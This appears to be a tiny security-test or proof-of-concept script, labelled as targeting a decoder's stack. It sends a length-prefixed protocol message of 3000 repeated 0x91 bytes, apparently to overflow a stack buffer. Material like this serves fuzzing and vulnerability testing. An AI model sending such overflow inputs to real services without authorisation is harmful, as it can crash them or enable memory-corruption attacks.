# aim: the decoder's stack
# kind: protocol
# source: own
# ends: protocol
send(b'\0\0\x0b\xb8' + b'\x91' * 3000)
wait()
